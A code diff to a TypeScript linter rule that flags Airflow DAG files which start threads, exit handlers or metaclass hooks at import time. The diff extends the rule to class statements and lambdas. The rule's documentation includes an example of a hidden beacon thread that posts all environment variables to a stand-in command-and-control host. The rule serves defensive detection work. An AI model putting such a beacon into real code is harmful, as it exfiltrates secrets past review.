@@ -1,7 +1,7 @@
 import { callArgs, unwrap } from '../../src/engine/python';
 import { defineRule } from '../../src/engine/rule';
 import { factsOf } from './_facts';
-import { localCallsAtParseTime } from './_local-calls';
+import { localCallsAtParseTime, reachOfTarget } from './_local-calls';
 
 /** Calls that run a function later but start (or register) it while the file is imported. */
 const STARTERS: ReadonlyMap<string, string> = new Map([
@@ -28,7 +28,7 @@ export default defineRule({
     },
     docs: {
       what:
-        'Finds module-level code that makes a function run in the dag-processor outside the import itself: `threading.Thread(target=f).start()`, `threading.Timer`, `multiprocessing.Process`, `atexit.register(f)`, `signal.signal(sig, f)`, `sys.settrace`/`setprofile`/`addaudithook`. *Medium*; *high* when the started function reaches the network or starts processes (a beacon or exfiltration that parse-time rules would miss because it sits in a function body). Also, *high*: a function of the file run at parse time by a plain module-level call (`_setup()`), as a decorator (`@deco`, `@deco(…)`), or as a default value (`def f(x=_helper())`), whose body — or a local function it calls, three levels deep — reaches the network, starts a process or runs code. `@task`-decorated functions are not followed: calling them at parse time does not run their body. The body of a `@dag` function is parse-time code itself (Airflow runs it to build the DAG): what it does is reported where it does it, by DG601, DG602, DG604, DG605, DG607…, and the local functions it calls are followed from there.',
+        'Finds module-level code that makes a function run in the dag-processor outside the import itself: `threading.Thread(target=f).start()`, `threading.Timer`, `multiprocessing.Process`, `atexit.register(f)`, `signal.signal(sig, f)`, `sys.settrace`/`setprofile`/`addaudithook`. *Medium*; *high* when the started function reaches the network or starts processes (a beacon or exfiltration that parse-time rules would miss because it sits in a function body). Also, *high*: a function of the file run at parse time by a plain module-level call (`_setup()`), as a decorator (`@deco`, `@deco(…)`), as a default value (`def f(x=_helper())`), or by a class statement (the metaclass\'s `__new__`/`__init__` for `class P(metaclass=Meta)`, a base class\'s `__init_subclass__`), whose body — or a local function it calls, three levels deep — reaches the network, starts a process or runs code. `@task`-decorated functions are not followed: calling them at parse time does not run their body. The body of a `@dag` function is parse-time code itself (Airflow runs it to build the DAG): what it does is reported where it does it, by DG601, DG602, DG604, DG605, DG607…, and the local functions it calls are followed from there.',
       why:
         'Parse-time rules look at module-level code because function bodies do not run at import — unless the module starts them: a thread keeps running in the dag-processor after the import returns, an exit handler runs when the processor recycles, a signal handler or trace hook runs inside Airflow\'s own code. It is how a malicious DAG file defers its payload past a naive review.',
       example: '```python\nimport threading, requests, os\ndef _beacon():\n    requests.post("https://c2.example", data=dict(os.environ))\nthreading.Thread(target=_beacon, daemon=True).start()\n```',
@@ -40,7 +40,7 @@ export default defineRule({
     for (const l of localCallsAtParseTime(ctx)) {
       const k = l.reach.kinds;
       const does = k.has('network') ? 'reaches the network' : k.has('spawn') ? 'starts a process' : 'runs code';
-      ctx.report(l.site, { how: l.how === 'decorator' ? 'runs the decorator' : 'calls', fn: l.name, does, via: l.reach.fn ?? l.reach.call.text.slice(0, 40) }, { message: 'local', severity: 'high', parseTime: false });
+      ctx.report(l.site, { how: l.how === 'decorator' ? 'runs the decorator' : l.how === 'class' ? `defining class \`${l.cls}\` runs` : 'calls', fn: l.name, does, via: l.reach.fn ?? l.reach.call.text.slice(0, 40) }, { message: 'local', severity: 'high', parseTime: false });
     }
   },
   onCall(call, fn, ctx) {
@@ -61,7 +61,8 @@ export default defineRule({
     // what does that function do? calls inside its definition (same file) that reach the network or spawn
     const def = t.type === 'identifier' ? ctx.root.descendantsOfType('function_definition').find((d) => d.childForFieldName('name')?.text === t.text) : t.type === 'lambda' ? t : undefined;
     const inside = def ? factsOf(ctx).calls.filter((f) => f.call.startIndex >= def.startIndex && f.call.endIndex <= def.endIndex) : [];
-    const outbound = inside.some((f) => f.kinds.has('network') || f.kinds.has('spawn') || f.kinds.has('exec'));
+    // directly, or through the local functions it calls (`lambda *a: _beacon()`)
+    const outbound = inside.some((f) => f.kinds.has('network') || f.kinds.has('spawn') || f.kinds.has('exec')) || reachOfTarget(ctx, t) !== null;
     ctx.report(call, { what: STARTERS.get(fn)!, fn: name, reach: outbound ? ', and that function reaches the network, starts processes or runs code' : '' }, { severity: outbound ? 'high' : 'medium' });
   },
 });
